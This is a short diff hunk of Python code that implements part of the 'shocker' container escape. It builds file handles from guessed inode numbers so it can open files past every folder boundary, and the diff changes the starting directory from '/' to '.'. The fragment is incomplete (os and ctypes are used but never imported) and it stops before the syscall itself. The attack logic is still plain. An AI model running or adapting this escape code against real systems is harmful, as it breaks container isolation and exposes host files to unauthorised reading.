@@ -1,7 +1,7 @@
 # Opens files by their number in the file system, past every folder (the "shocker" escape).
 import struct
 
-folder = os.open("/", os.O_RDONLY)
+folder = os.open(".", os.O_RDONLY)
 for number in (1, 2, 128, 256):
     handle = ctypes.create_string_buffer(struct.pack("II", 8, 1) + struct.pack("Q", number))
     for place in (folder, -100):
